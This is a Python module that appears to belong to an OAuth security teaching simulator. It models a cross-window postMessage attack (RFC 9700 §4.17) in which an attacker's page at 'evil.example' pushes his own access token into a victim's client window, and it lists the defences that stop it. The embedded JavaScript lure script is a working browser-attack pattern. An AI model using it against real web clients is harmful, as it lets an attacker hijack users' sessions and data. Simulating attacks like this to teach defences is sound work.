"""A message from whoever opened the window: the client's page takes the attacker's token for Ana's (RFC 9700 §4.17).

It is cross-site request forgery without any address: what reaches the page goes over no network.
"""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response
from markupsafe import Markup

from app.actors.client import page
from app.actors.owner import Owner
from app.actors.pages import scripted_page
from app.actors.places import CLIENT_ORIGIN
from app.attacks import lure, own_account, parts
from app.attacks.attack import Attack, Defence, Reached
from app.attacks.csrf import EVIL
from app.attacks.message_to_opener import REQUEST
from app.attacks.parts import ATTACKER, COPIES
from app.flows import implicit as flow
from app.flows import parts as flow_parts
from app.flows.flow import Hosts
from app.trace import Trace
from app.trace.paths import split_url
from app.wire import Browser, Step, World, here
from app.wire.popup import open_popup

SWITCH = "client.message_sender"
WINDOW = f"{CLIENT_ORIGIN}/print"
ANSWER = "answer"
SHOW = Markup("<button>Show me</button>")
TELL = """
document.querySelector("button").onclick = () => {
  const printer = open("%s");
  setTimeout(() => printer.postMessage("%s", "*"), 1000);
};
"""


@cache
def build() -> Flask:
    """The attacker's site: a page with a button, and a message in its script."""
    app = Flask("evil-teller", static_folder=None)
    app.add_url_rule("/cats", "cats", cats, methods=["GET"])
    return app


def cats() -> Response:
    """The page that opens the printer's and tells it something: the answer that the attacker got for himself."""
    answer = here().actor(ATTACKER).look(COPIES, ANSWER) or ""
    return scripted_page("Cats", SHOW, "tell", TELL % (WINDOW, answer))


def hosts(_: Mapping[str, str]) -> Hosts:
    """The attacker's site."""
    return {EVIL: (ATTACKER, build())}


def script(world: World) -> None:
    """The attacker gets a token of his own; Ana clicks on a button, and his page tells the printer's that token."""
    own = own_account.allow_at(world, REQUEST)
    answer = split_url(own.page.url).fragment
    if "access_token=" not in answer:
        return
    world.actor(ATTACKER).put(COPIES, ANSWER, answer, "the answer that came to his own browser")
    owner, browser = Owner(world), Browser(world)
    lure.follow_link(owner, browser)
    popup = open_popup(browser, WINDOW, owner.clicks("click", "Show me"))
    page.hear(popup, answer)


def goal(trace: Trace) -> Reached:
    """The printer's page in Ana's browser works with the attacker's token."""
    sentence = "The printer's page in Ana's browser is connected to the attacker's account."
    return parts.answered(trace, "photos", sentence, parts.shows_photos_of(own_account.ACCOUNT))


ATTACK = Attack(
    id="message-from-opener",
    title="Message from whoever opened the window",
    spec=("RFC 9700 §4.17", "RFC 9700 §4.7"),
    flows=("implicit",),
    aim="The printer's page takes a token of the attacker's from a message, and Ana works with his account.",
    goal=goal,
    needs={"client.type": "public", "client.auth": "none"},
    weak={SWITCH: "any", "client.state": "none", "as.implicit": "allowed"},
    stops=(
        Defence(
            switch=SWITCH,
            value="exact",
            who="client",
            sentence="The message comes from another site, as the browser says: the printer's page does not take it.",
        ),
        Defence(
            switch=SWITCH,
            value="none",
            who="client",
            sentence="The printer's page listens to nobody.",
        ),
        Defence(
            switch="client.state",
            value="bound",
            who="browser",
            sentence="The message carries no state of this window: the page asked for nothing in it.",
            check="page.state",
            at="callback#1.request",
            status=200,
        ),
        Defence(
            switch="as.implicit",
            value="refused",
            who="as",
            sentence="The attacker gets no token through a browser, and has none to tell.",
            check="authorize.response_type.supported",
            at="own_authorize#1.request",
            status=303,
            error="unsupported_response_type",
        ),
    ),
    promised={"rfc9700": "RFC 9700 §2.1.2", "oauth-2.1": "OAuth 2.1 §10.1"},
    lanes=(parts.browser_of("Attacker's browser"), parts.thief("evil.example", "attacker's site")),
    steps=(
        *own_account.taken((flow_parts.ASKING[2], *flow_parts.ALLOWING, flow.TAKING[0])),
        *lure.STEPS,
        Step("click", "owner", "browser", "act", "", lure.LURE, "Ana clicks on a button"),
    ),
    phases=(own_account.PHASE, lure.LURING),
    hosts=hosts,
    prepare=own_account.open_account,
    script=script,
    victim="A second window opens, with the printer's real page in it, and photos that are not hers. She uploads more.",
    attacker="He sends no request to anybody, and no address: his page and the printer's are in the same browser.",
    remains="A page of the printer's own that can be made to send such a message: its origin is the right one.",
)
